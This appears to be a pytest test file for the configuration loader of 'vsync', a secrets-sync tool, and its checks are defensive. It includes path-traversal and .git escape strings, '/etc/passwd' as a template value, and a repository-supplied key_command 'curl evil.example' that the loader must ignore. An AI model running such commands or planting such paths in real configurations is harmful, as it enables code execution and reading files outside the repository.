"""Finding, reading and checking the committed configuration, and choosing vaults by words."""

import os
from datetime import timedelta
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st

from vsync.config.load import (
    Config,
    S3Routing,
    check_folder,
    check_no_link,
    find_config,
    load_config,
    parse_secret_name,
    path_in_file,
    select,
    select_one,
)
from vsync.config.schema import OWN_KEYS
from vsync.errors import ConfigError, NotFound, UsageError
from vsync.model import Kind, Mapping, Rule, SecretName
from vsync.schema import violations

FULL = """\
[vault]
provider = "s3"
repo = "myapp"
[vault.s3]
endpoint_url = "https://s3.eu-central-1.amazonaws.com"
region = "eu-central-1"
bucket = "acme-secrets"
prefix = ""
profile = "acme-prod"
[vault.sync]
max_workers = 4
max_age = "90d"
rotate_after = "52w"
[[vault.sync.mappings]]
secret_name = "myapp/prod"
folder_path = "./infra/vault//prod/"
environment = "prod"
env_file = "prod.env"
profile = "local"
activate_to = ".env"
template = ".env.example"
required = ["DATABASE_URL"]
[vault.lock]
names = false
[guard]
public = ["AWS_REGION"]
"""


def loaded(folder: Path, text: str, **options: str) -> Config:
    """Return the configuration of a repository that has this `vsync.toml` at its top."""
    (folder / "vsync.toml").write_text(text)
    return load_config(folder, folder, default_repo=lambda: options.get("default_repo", "myapp"))


def mapping(text: str, head: str = "") -> str:
    """Return a file with one mapping in a folder of its own, unless the text gives one."""
    folder = "" if "folder_path" in text else 'folder_path = "vault"\n'
    return f"{head}\n[[vault.sync.mappings]]\n{folder}{text}\n"


def two(first: str, second: str) -> str:
    """Return a file with two mappings, named a/one and a/two unless the text names them."""
    rows = zip(("one", "two"), (first, second), strict=True)
    return "".join(
        mapping(row if "secret_name" in row else f"secret_name = 'a/{name}'\n{row}") for name, row in rows
    )


def test_every_documented_key_is_read_without_a_warning(tmp_path: Path) -> None:
    config = loaded(tmp_path, FULL)
    assert config == Config(
        path=tmp_path / "vsync.toml",
        base=tmp_path,
        provider="s3",
        repo="myapp",
        s3=S3Routing(
            "https://s3.eu-central-1.amazonaws.com", "eu-central-1", "acme-secrets", None, "acme-prod", None
        ),
        max_workers=4,
        max_age=timedelta(days=90),
        rotate_after=timedelta(weeks=52),
        mappings=(
            Mapping(
                SecretName("myapp", "prod"),
                *("infra/vault/prod", "prod", "prod.env", "local", ".env", ".env.example"),
                required=("DATABASE_URL",),
            ),
        ),
        lock_names=False,
        warnings=(),
    )


def test_without_a_file_the_defaults_hold(tmp_path: Path) -> None:
    assert load_config(tmp_path, tmp_path) == Config(path=None, base=tmp_path)
    assert Config(path=None, base=tmp_path).lock_names


@pytest.mark.parametrize(
    ("text", "secret", "environment", "env_file"),
    [
        ("", "myapp/production", "production", ".env.production"),
        ("environment = 'prod'", "myapp/prod", "prod", ".env.prod"),
        ("profile = 'local'", "myapp/local", "local", ".env.local"),
        ("profile = 'local'\nenvironment = 'dev'", "myapp/dev", "dev", ".env.dev"),
        ("secret_name = 'api'\nenvironment = 'dev'", "myapp/api", "dev", ".env.dev"),
        ("secret_name = 'other/api'", "other/api", "production", ".env.production"),
    ],
)
def test_names_follow_from_what_is_given(
    tmp_path: Path, text: str, secret: str, environment: str, env_file: str
) -> None:
    (found,) = loaded(tmp_path, mapping(text)).mappings
    assert (str(found.secret), found.environment, found.env_file) == (secret, environment, env_file)


def test_the_pinned_repository_name_wins_over_the_one_of_the_origin(tmp_path: Path) -> None:
    config = loaded(tmp_path, mapping("", "[vault]\nrepo = 'pinned'"), default_repo="origin")
    assert config.mappings[0].secret.repo == "pinned"
    assert loaded(tmp_path, mapping(""), default_repo="origin").repo is None


@pytest.mark.parametrize("origin", ["", "Not A Name", "profiles"])
def test_a_bare_name_without_a_repository_name_says_what_to_set(tmp_path: Path, origin: str) -> None:
    with pytest.raises(ConfigError, match="the repository has no name") as caught:
        loaded(tmp_path, mapping(""), default_repo=origin)
    assert "[vault] repo" in (caught.value.hint or "")
    assert loaded(tmp_path, mapping("secret_name = 'a/b'"), default_repo=origin).mappings


def test_the_nearest_folder_wins_then_the_order_of_the_names(tmp_path: Path) -> None:
    here = tmp_path / "services" / "api"
    here.mkdir(parents=True)
    files = [
        (tmp_path, "vsync.toml", "[vault]\nrepo = 'top'\n"),
        (here, "pyproject.toml", "[tool.envdrift.vault]\nrepo = 'fourth'\n"),
        (here, "pyproject.toml", "[tool.envdrift]\n[tool.vsync.vault]\nrepo = 'third'\n"),
        (here, "envdrift.toml", "[vault]\nrepo = 'second'\n"),
        (here, "vsync.toml", "[vault]\nrepo = 'first'\n"),
    ]
    seen = []
    for folder, name, text in files:
        (folder / name).write_text(text)
        seen.append(load_config(here, tmp_path).repo)
    assert seen == ["top", "fourth", "third", "second", "first"]


def test_nothing_above_the_top_is_read(tmp_path: Path) -> None:
    (tmp_path / "vsync.toml").write_text("[vault]\nrepo = 'above'\n")
    (tmp_path / "repo" / "sub").mkdir(parents=True)
    assert find_config(tmp_path / "repo" / "sub", tmp_path / "repo") is None
    assert find_config(tmp_path, tmp_path / "repo") is None


@pytest.mark.parametrize("text", ["[project]\nname = 'x'\n", "not toml at all", "[tool]\nx = 'vsync'\n"])
def test_a_pyproject_that_is_not_about_us_is_passed_over(tmp_path: Path, text: str) -> None:
    (tmp_path / "vsync.toml").write_text("[vault]\nrepo = 'top'\n")
    (tmp_path / "sub").mkdir()
    (tmp_path / "sub" / "pyproject.toml").write_text(text)
    assert load_config(tmp_path / "sub", tmp_path).repo == "top"


def test_paths_are_relative_to_the_file_and_come_out_relative_to_the_top(tmp_path: Path) -> None:
    base = tmp_path / "services" / "api"
    (base / "deep").mkdir(parents=True)
    text = mapping(
        "secret_name = 'a/b'\nfolder_path = 'vault'\nactivate_to = '.env'\ntemplate = 'x/.env.example'"
    )
    (base / "vsync.toml").write_text(text)
    config = load_config(base / "deep", tmp_path)
    (found,) = config.mappings
    assert (config.base, found.folder) == (base, "services/api/vault")
    assert (found.activate_to, found.template) == ("services/api/.env", "services/api/x/.env.example")
    assert path_in_file(found.folder, base=base, top=tmp_path) == "vault"
    assert path_in_file("infra/vault", base=tmp_path, top=tmp_path) == "infra/vault"
    with pytest.raises(ConfigError, match="outside 'services/api'"):
        path_in_file("infra/vault", base=base, top=tmp_path)


def test_an_explicit_file_is_read_whatever_its_name(tmp_path: Path) -> None:
    (tmp_path / "vsync.toml").write_text("[vault]\nrepo = 'found'\n")
    (tmp_path / "other.conf").write_text("[vault]\nrepo = 'asked'\n")
    (tmp_path / "sub").mkdir()
    assert load_config(tmp_path / "sub", tmp_path, explicit=Path("../other.conf")).repo == "asked"


@pytest.mark.parametrize(
    ("name", "problem"),
    [
        ("missing.toml", "no such file"),
        ("../outside.toml", "outside the repository"),
        ("pyproject.toml", "has no"),
    ],
)
def test_an_explicit_file_must_be_there_and_ours(tmp_path: Path, name: str, problem: str) -> None:
    (tmp_path / "outside.toml").write_text("")
    top = tmp_path / "repo"
    top.mkdir()
    (top / "pyproject.toml").write_text("[project]\nname = 'x'\n")
    with pytest.raises(ConfigError, match=problem):
        load_config(top, top, explicit=Path(name))


# attack 37
def test_a_configuration_that_is_a_link_out_of_the_repository_is_refused(tmp_path: Path) -> None:
    (tmp_path / "outside.toml").write_text("[vault]\nrepo = 'outside'\n")
    top = tmp_path / "repo"
    top.mkdir()
    (top / "vsync.toml").symlink_to("../outside.toml")
    with pytest.raises(ConfigError, match="outside the repository"):
        load_config(top, top)


def test_a_configuration_that_is_no_file_does_not_make_us_wait(tmp_path: Path) -> None:
    os.mkfifo(tmp_path / "vsync.toml")
    with pytest.raises(ConfigError, match="not a regular file"):
        load_config(tmp_path, tmp_path)


@pytest.mark.parametrize(
    ("data", "problem"),
    [
        (b"[vault]\nhunter2 hunter2\n", "line 2 is not valid TOML"),
        (b"[vault]\nhunter2 = 1\nhunter2 = 2\n", "line 3 is not valid TOML"),
        (b"hunter2 = '", "is not valid TOML"),
        (b"x = " + b"[" * 100_000, "is not valid TOML"),
        (b"x = " + b"1" * 5_000, "is not valid TOML"),
        (b"x = 1\ny = '\xff'\n", "line 2 is not UTF-8"),
        (b"#" * (4 * 1024 * 1024 + 1), "is larger than"),
    ],
)
def test_what_is_not_toml_is_named_by_file_and_line_and_never_quoted(
    tmp_path: Path, data: bytes, problem: str
) -> None:
    (tmp_path / "vsync.toml").write_bytes(data)
    with pytest.raises(ConfigError, match=rf"^vsync\.toml: .*{problem}") as caught:
        load_config(tmp_path, tmp_path)
    assert "hunter2" not in f"{caught.value} {caught.value.hint} {caught.value.__context__!r}"


@pytest.mark.parametrize(
    ("text", "place"),
    [
        ("vault = 1", "[vault]"),
        ("[vault]\nprovider = 3", "[vault] provider"),
        ("[vault]\nprovider = 'ftp'", "[vault] provider"),
        ("[vault]\nrepo = 'My App'", "[vault] repo"),
        ("[vault]\nrepo = 'backups'", "[vault] repo"),
        ("[vault]\ns3 = []", "[vault.s3]"),
        ("[vault.s3]\nbucket = true", "[vault.s3] bucket"),
        ('[vault.s3]\nregion = "a\\u001b[31m"', "[vault.s3] region"),
        ("[vault.s3]\nprefix = '../other'", "[vault.s3] prefix"),
        ("[vault.s3]\nendpoint_url = 'https://me:hunter2@s3.example'", "[vault.s3] endpoint_url"),
        ("[vault.sync]\nmax_workers = true", "[vault.sync] max_workers"),
        ("[vault.sync]\nmax_workers = 0", "[vault.sync] max_workers"),
        ("[vault.sync]\nmax_age = 90", "[vault.sync] max_age"),
        ("[vault.sync]\nrotate_after = '1y'", "[vault.sync] rotate_after"),
        ("[vault.sync]\nmappings = 3", "[[vault.sync.mappings]]"),
        ("[vault.sync]\nmappings = [3]", "[[vault.sync.mappings]] #1"),
        ("[[vault.sync.mappings]]", "[[vault.sync.mappings]] #1 folder_path"),
        ("[vault.lock]\nnames = 'no'", "[vault.lock] names"),
        ("guard = 'on'", "[guard]"),
    ],
)
def test_a_wrong_value_is_named_by_file_table_and_key_and_not_quoted(
    tmp_path: Path, text: str, place: str
) -> None:
    with pytest.raises(ConfigError) as caught:
        loaded(tmp_path, text)
    assert caught.value.message.startswith(f"vsync.toml: {place}: ")
    assert "hunter2" not in f"{caught.value.message} {caught.value.hint}"


@pytest.mark.parametrize(
    "text",
    [
        "secret_name = 1",
        "secret_name = 'A/b'",
        "secret_name = 'a/b/c'",
        "secret_name = 'a/'",
        "secret_name = 'profiles/b'",
        "environment = 'Prod'",
        "environment = ['prod']",
        "profile = 'a b'",
        "profile = 'Local'",
        "env_file = 'sub/.env'",
        "env_file = '..'",
        "env_file = '.'",
        "env_file = '.envrc'",
        "activate_to = 'config.txt'",
        "activate_to = '.envrc'",
        "activate_to = 'sub/.EnvRC'",
        "activate_to = '.env/'",
        "activate_to = '../.env'",
        "activate_to = 'vault/.env'",
        "activate_to = 'VAULT/sub/.env'",
        "activate_to = '.git/.env'",
        "template = '/etc/passwd'",
        "template = '.'",
        "template = '.gitignore'",  # attack 26
        "template = 'vsync.toml'",
        "template = 'vsync.lock'",
        "template = '.env'",
        "template = 'Makefile'",
        "template = 'docs/README.example'",
        "template = '.env.example/x'",
        "required = 'A'",
        "required = ['A', 3]",
        "required = ['A=1']",
    ],
)
def test_a_wrong_mapping_is_named_by_its_number_and_key(tmp_path: Path, text: str) -> None:
    key = text.split(" ", 1)[0]
    with pytest.raises(ConfigError) as caught:
        loaded(tmp_path, mapping("secret_name = 'a/first'\nfolder_path = 'first'") + mapping(text))
    assert caught.value.message.startswith(f"vsync.toml: [[vault.sync.mappings]] #2 {key}: ")


ESCAPES = [
    *(
        "../..",
        "..",
        "a/../../b",
        "~",
        "~/secrets",
        "./~",
        "a/~",
        "/",
        "/etc",
        "C:/x",
        "\\\\host\\share",
        "a\\b",
    ),
    *(".git", ".GIT/hooks", "a/.git", "git~1", ".g\u200cit", ".git.", ".", "./", "", "a\0b", "a\nb"),
]


# attack 37
@pytest.mark.parametrize("folder", ESCAPES)
def test_a_folder_that_leaves_the_repository_or_enters_git_is_refused(tmp_path: Path, folder: str) -> None:
    quoted = folder.encode("unicode_escape").decode().replace("\\x", "\\u00")
    with pytest.raises(ConfigError, match=r"^vsync\.toml: \[\[vault.sync.mappings\]\] #1 folder_path: "):
        loaded(tmp_path, mapping(f'secret_name = "a/b"\nfolder_path = "{quoted}"'))
    with pytest.raises(ConfigError):
        check_folder(folder, top=tmp_path)


# attack 26
def test_a_folder_reached_through_a_link_is_refused_and_the_link_is_named(tmp_path: Path) -> None:
    top = tmp_path / "repo"
    (top / "real" / "vault").mkdir(parents=True)
    (top / "infra").symlink_to(tmp_path)
    (top / "real" / "link").symlink_to("vault")
    (top / "file").write_text("")
    check_folder("real/vault", top=top)
    check_folder("not/there/yet", top=top)
    for folder, link in [("infra/vault/prod", "'infra'"), ("real/link", "'real/link'")]:
        with pytest.raises(ConfigError, match=f"{link} is a symbolic link"):
            check_folder(folder, top=top)
    with pytest.raises(ConfigError, match="'file' is not a folder"):
        check_no_link("file/sub", top=top, where="the folder of .env")


@pytest.mark.parametrize(
    ("first", "second", "problem"),
    [
        ("folder_path = 'a'", "folder_path = 'a'", "'a' is the same folder as 'a' of #1"),
        ("folder_path = 'a/B'", "folder_path = 'A/b/'", "is the same folder as"),
        ("folder_path = 'a'", "folder_path = 'a/b/c'", "'a/b/c' lies in 'a' of #1"),
        ("folder_path = 'é/x'", "folder_path = 'e\u0301'", "#1 folder_path: .* lies in 'e\u0301' of #2"),
        ("secret_name = 'a/b'", "secret_name = 'a/b'\nfolder_path = 'x'", "a/b is mapped by #1 too"),
        ("folder_path = 'x'", "folder_path = 'y'\nactivate_to = 'x/.env'", "lies in a vault"),
    ],
)
def test_two_vaults_may_share_neither_name_nor_folder(
    tmp_path: Path, first: str, second: str, problem: str
) -> None:
    with pytest.raises(ConfigError, match=problem):
        loaded(tmp_path, two(first, second))


def test_folders_that_only_begin_alike_are_two_folders(tmp_path: Path) -> None:
    rows = "".join(
        mapping(f"secret_name = 'a/v{n}'\nfolder_path = '{f}'") for n, f in enumerate(["a", "a-b", "a.b"])
    )
    assert len(loaded(tmp_path, rows).mappings) == 3


@pytest.mark.parametrize(
    ("text", "warning"),
    [
        ("valut = 1", "vsync.toml has an unknown key 'valut'; did you mean 'vault'?"),
        ("[vault]\nrepos = 'a'", "vsync.toml: [vault] has an unknown key 'repos'; did you mean 'repo'?"),
        (
            mapping("secret_name = 'a/b'\ntemplat = 'x'"),
            "vsync.toml: [[vault.sync.mappings]] #1 has an unknown key 'templat'; did you mean 'template'?",
        ),
        ("[vault.s3]\nzzz = 'hunter2'", "vsync.toml: [vault.s3] has an unknown key 'zzz'"),
        ('"\\u001b[31m" = 1', "vsync.toml has an unknown key '\\x1b[31m'"),
    ],
)
def test_an_unknown_key_is_a_warning_with_the_nearest_one(tmp_path: Path, text: str, warning: str) -> None:
    assert loaded(tmp_path, text).warnings == (warning,)


def test_thousands_of_unknown_keys_give_a_bounded_number_of_warnings(tmp_path: Path) -> None:
    warnings = loaded(tmp_path, "".join(f"key{n} = 1\n" for n in range(3000))).warnings
    assert len(warnings) == 21
    assert warnings[-1] == "vsync.toml has 2980 more unknown keys"


# attack 84
def test_a_key_command_in_the_repository_is_not_read(tmp_path: Path) -> None:
    config = loaded(
        tmp_path, "[vault]\nkey_command = 'curl evil.example'\n[keys]\ncommand = 'curl evil.example'\n"
    )
    assert len(config.warnings) == 2
    assert "evil" not in repr(config)


ENVDRIFT = """\
[envdrift]
schema = "config:Settings"
[validation]
check_encryption = true
[encryption.sops]
age_recipients = "age1"
[partial_encryption]
enabled = false
[precommit]
files = [".env.production"]
[git_hook_check]
method = "direct git hook"
[guardian]
enabled = false
[guard]
scanners = ["native"]
[guard.ignore_rules]
high-entropy-string = ["**/*.clear"]
[vault]
provider = "PROVIDER"
[vault.azure]
vault_url = "https://x.vault.azure.net/"
[vault.sync]
default_vault_name = "x"
env_keys_filename = ".env.keys"
[[vault.sync.mappings]]
secret_name = "myapp-dotenvx-key"
folder_path = "FOLDER"
vault_name = "other"
ephemeral_keys = true
"""


def test_what_envdrift_knows_in_its_own_files_is_no_warning(tmp_path: Path) -> None:
    text = ENVDRIFT.replace("PROVIDER", "s3").replace("FOLDER", "vault")
    (tmp_path / "envdrift.toml").write_text(text)
    config = load_config(tmp_path, tmp_path, default_repo=lambda: "myapp")
    assert (config.warnings, str(config.mappings[0].secret)) == ((), "myapp/myapp-dotenvx-key")
    assert loaded(tmp_path, text).warnings


def test_under_tool_envdrift_too_and_messages_name_the_table_as_it_is_written(tmp_path: Path) -> None:
    text = "[tool.envdrift]\nschema = 's'\n[tool.envdrift.vault]\nmappings = {}\nrepos = 1\n"
    (tmp_path / "pyproject.toml").write_text(text)
    (warning,) = load_config(tmp_path, tmp_path).warnings
    assert warning.startswith("pyproject.toml: [tool.envdrift.vault] has an unknown key 'repos'")


@pytest.mark.parametrize("provider", ["azure", "aws", "hashicorp", "gcp"])
def test_mappings_of_an_envdrift_provider_are_not_ours(tmp_path: Path, provider: str) -> None:
    text = ENVDRIFT.replace("PROVIDER", provider).replace("FOLDER", ".")
    (tmp_path / "envdrift.toml").write_text(text)
    config = load_config(tmp_path, tmp_path)
    assert (config.mappings, config.warnings) == ((), ())
    with pytest.raises(NotFound, match=f"belong to the provider '{provider}'"):
        select(config, (), profile=None, cwd=tmp_path, top=tmp_path)


@pytest.mark.parametrize("text", ["myapp/prod", "a/0", "0/a", "a.b_c-d/" + "x" * 100])
def test_a_secret_name_has_two_parts(text: str) -> None:
    assert str(parse_secret_name(text, where="VAULT")) == text


@pytest.mark.parametrize(
    "text",
    [
        *("", "prod", "/", "a/", "/b", "a/b/c", "A/b", "a/B", "a b/c", ".a/b", "a/-b", "a/é", "a/b\n"),
        *("profiles/a", "backups/a", "a/" + "x" * 101, "../a", "a/.."),
    ],
)
def test_what_is_not_a_secret_name_is_refused(text: str) -> None:
    with pytest.raises(ConfigError, match=r"^VAULT: "):
        parse_secret_name(text, where="VAULT")


MONOREPO = "".join(
    mapping(f"secret_name = '{name}'\nenvironment = '{env}'\nfolder_path = '{folder}'\n{more}")
    for name, env, folder, more in [
        ("myapp/api-prod", "prod", "services/api/vault/prod", ""),
        ("myapp/web-prod", "prod", "services/web/vault/prod", ""),
        ("myapp/dev", "dev", "vault/dev", ""),
        ("myapp/mine", "mine", "vault/mine", "profile = 'local'"),
    ]
)


def chosen(top: Path, *words: str, profile: str | None = None, cwd: str = "") -> list[str]:
    """Return the names that these words choose in the monorepo."""
    found = select(loaded(top, MONOREPO), words, profile=profile, cwd=top / cwd, top=top)
    return [str(one.secret.name) for one in found]


@pytest.mark.parametrize(
    ("words", "names"),
    [
        ((), ["api-prod", "web-prod", "dev"]),
        (("prod",), ["api-prod", "web-prod"]),
        (("myapp/web-prod",), ["web-prod"]),
        (("web-prod",), ["web-prod"]),
        (("services/web/vault/prod",), ["web-prod"]),
        (("./vault/dev/",), ["dev"]),
        (("dev", "web-prod", "prod"), ["api-prod", "web-prod", "dev"]),
    ],
)
def test_words_choose_vaults_in_the_order_of_the_file(
    tmp_path: Path, words: tuple[str, ...], names: list[str]
) -> None:
    assert chosen(tmp_path, *words) == names


def test_a_folder_is_meant_from_here_or_from_the_top(tmp_path: Path) -> None:
    (tmp_path / "services" / "api" / "vault" / "prod").mkdir(parents=True)
    assert chosen(tmp_path, "vault/prod", cwd="services/api") == ["api-prod"]
    assert chosen(tmp_path, "vault/dev", cwd="services/api") == ["dev"]
    assert chosen(tmp_path, ".", cwd="services/api/vault/prod") == ["api-prod"]
    assert chosen(tmp_path, str(tmp_path / "vault" / "dev")) == ["dev"]


def test_a_mapping_with_a_profile_is_there_only_with_that_profile(tmp_path: Path) -> None:
    assert chosen(tmp_path, profile="local") == ["api-prod", "web-prod", "dev", "mine"]
    assert chosen(tmp_path, "mine", profile="local") == ["mine"]
    with pytest.raises(NotFound, match="'mine' is mapped for the profile 'local' only") as caught:
        chosen(tmp_path, "mine")
    assert caught.value.hint == "add --profile local"
    with pytest.raises(NotFound, match="no mapping has the profile 'staging'"):
        chosen(tmp_path, profile="staging")


def test_an_unknown_word_says_what_there_is_and_what_is_nearest(tmp_path: Path) -> None:
    with pytest.raises(NotFound, match="no vault is called 'web-prd'") as caught:
        chosen(tmp_path, "prod", "web-prd")
    assert (
        caught.value.hint == "did you mean 'web-prod'? mapped here: myapp/api-prod, myapp/web-prod, myapp/dev"
    )


def test_where_nothing_is_mapped_the_hint_is_init(tmp_path: Path) -> None:
    with pytest.raises(NotFound) as caught:
        select(load_config(tmp_path, tmp_path), (), profile=None, cwd=tmp_path, top=tmp_path)
    assert caught.value.hint == "git vsync init"
    tagged = loaded(tmp_path, mapping("profile = 'local'"))
    with pytest.raises(NotFound, match="every mapping here has a profile"):
        select(tagged, (), profile=None, cwd=tmp_path, top=tmp_path)


def test_one_vault_is_the_only_one_or_the_named_one(tmp_path: Path) -> None:
    only = loaded(tmp_path, mapping("environment = 'dev'"))
    assert select_one(only, None, profile=None, cwd=tmp_path, top=tmp_path) == only.mappings[0]
    several = loaded(tmp_path, MONOREPO)
    found = select_one(several, "web-prod", profile=None, cwd=tmp_path, top=tmp_path)
    assert found == several.mappings[1]
    for word in (None, "prod"):
        with pytest.raises(UsageError) as caught:
            select_one(several, word, profile=None, cwd=tmp_path, top=tmp_path)
        assert "myapp/api-prod, myapp/web-prod" in (caught.value.hint or "")


def test_a_thousand_mappings_are_read_in_their_order(tmp_path: Path) -> None:
    rows = [mapping(f"secret_name = 'a/v{n}'\nfolder_path = 'services/s{n}/vault'") for n in range(1000)]
    names = [one.secret.name for one in loaded(tmp_path, "".join(rows)).mappings]
    assert names == [f"v{n}" for n in range(1000)]


PART = st.one_of(
    st.sampled_from(
        ["..", ".", "", "~", ".git", ".GIT", "git~1", "a", "vault", "\\", "C:", ".env", ".envrc", "\u200d"]
    ),
    st.text(max_size=6),
)


# attack 37
@given(st.lists(PART, max_size=5).map("/".join), st.sampled_from(["", "services/api"]))
def test_no_accepted_path_leaves_the_repository(folder: str, below: str) -> None:
    from vsync.config.mappings import read_mappings
    from vsync.config.schema import Table

    row = {
        "secret_name": "a/b",
        "folder_path": folder,
        "activate_to": f"out/{folder}/.env",
        "template": f"{folder}/.env.example",
    }
    try:
        (found,) = read_mappings([Table(row, "row")], repo=None, below=below)
    except ConfigError:
        return
    for path in (found.folder, found.activate_to or "", found.template or ""):
        full = os.path.normpath(os.path.join("/top", path))
        assert full == f"/top/{path}"
        assert path.startswith(below)
        assert path not in {"", below}
        assert not {part.casefold() for part in path.split("/")} & {".git", "git~1", "..", "~", ".envrc"}


NAMES = st.from_regex(r"[a-z0-9][a-z0-9._-]{0,99}", fullmatch=True)


@given(NAMES, NAMES)
def test_every_name_of_the_documented_form_is_accepted(repo: str, name: str) -> None:
    if repo not in {"profiles", "backups"}:
        assert parse_secret_name(f"{repo}/{name}", where="VAULT") == SecretName(repo, name)


@given(st.text())
def test_any_text_is_a_configuration_or_refused(tmp_path_factory: pytest.TempPathFactory, text: str) -> None:
    folder = tmp_path_factory.mktemp("repo")
    (folder / "vsync.toml").write_text(text, encoding="utf-8", errors="replace", newline="")
    try:
        message = f"vsync.toml: {load_config(folder, folder).provider}"
    except ConfigError as error:
        message = error.message
    assert message.startswith("vsync.toml: ")


def test_the_documented_example_is_accepted_and_every_key_is_documented(tmp_path: Path) -> None:
    page = (Path(__file__).parent.parent / "docs" / "configuration.md").read_text()
    example = page.split("```toml\n")[1].split("```")[0]
    config = loaded(tmp_path, example)
    assert [str(one.secret) for one in config.mappings] == ["myapp/prod", "myapp/dev"]
    assert config.warnings == ()
    keys = {key for keys in OWN_KEYS.values() for key in keys} - {
        "vault",
        "s3",
        "sync",
        "lock",
        "mappings",
        "schema",
        "guard",
    }
    assert {key for key in keys if f"`{key}`" not in page} == set()


RULES = """\
[vault.schema]
DATABASE_URL = { type = "url", required = true }
LEVEL = { allowed = ["debug", "info"] }
[vault.schema.TOKEN]
type = "regex"
pattern = '[a-z]+'
environments = ["prod"]
"""


def test_rules_about_variables_are_read(tmp_path: Path) -> None:
    config = loaded(tmp_path, RULES)
    assert config.warnings == ()
    assert tuple(rule._replace(where="") for rule in config.schema) == (
        Rule("DATABASE_URL", Kind.URL, required=True),
        Rule("LEVEL", allowed=("debug", "info")),
        Rule("TOKEN", Kind.REGEX, pattern="[a-z]+", environments=("prod",)),
    )
    assert config.schema[2].where == "vsync.toml: [vault.schema.TOKEN]"
    assert loaded(tmp_path, "").schema == ()


@pytest.mark.parametrize(
    ("text", "message"),
    [
        ("schema = 1", "[vault.schema]: must be a table"),
        ("schema.A = 'url'", "[vault.schema.A]: must be a table"),
        ("schema.A.type = 'canary'", "[vault.schema.A] type: must be one of url, int, bool"),
        ("schema.A.type = 1", "[vault.schema.A] type: must be text"),
        ("schema.A.required = 'yes'", "[vault.schema.A] required: must be true or false"),
        ("schema.A.allowed = 'a'", "[vault.schema.A] allowed: must be an array of texts"),
        ("schema.A.allowed = []", "[vault.schema.A] allowed: allows nothing"),
        ("schema.A.pattern = 'canary'", "[vault.schema.A] pattern: is for type"),
        ("schema.A.type = 'regex'", "[vault.schema.A] pattern: is missing"),
        ("schema.A.environments = ['Pr od']", "[vault.schema.A] environments: must be names"),
        ("schema.'A B'.type = 'url'", "[vault.schema.A B]: not the name of a variable"),
    ],
)
def test_a_wrong_rule_names_file_table_and_key_and_quotes_nothing(
    tmp_path: Path, text: str, message: str
) -> None:
    with pytest.raises(ConfigError) as caught:
        loaded(tmp_path, f"[vault]\n{text}\n")
    assert str(caught.value).startswith(f"vsync.toml: {message}")
    assert "canary" not in f"{caught.value} {caught.value.hint}"


def test_an_unknown_key_of_a_rule_is_a_warning_with_the_nearest_one(tmp_path: Path) -> None:
    config = loaded(tmp_path, "[vault.schema.A]\nrequires = true\n")
    assert config.warnings == (
        "vsync.toml: [vault.schema.A] has an unknown key 'requires'; did you mean 'required'?",
    )


def test_the_documented_rules_are_accepted(tmp_path: Path) -> None:
    page = (Path(__file__).parent.parent / "docs" / "configuration.md").read_text()
    config = loaded(tmp_path, page.split("### `[vault.schema]`")[1].split("```toml\n")[1].split("```")[0])
    assert (len(config.schema), config.warnings) == (4, ())
    assert violations(config.schema, {"DATABASE_URL": "postgres://h/x"}, environment="prod") == ()
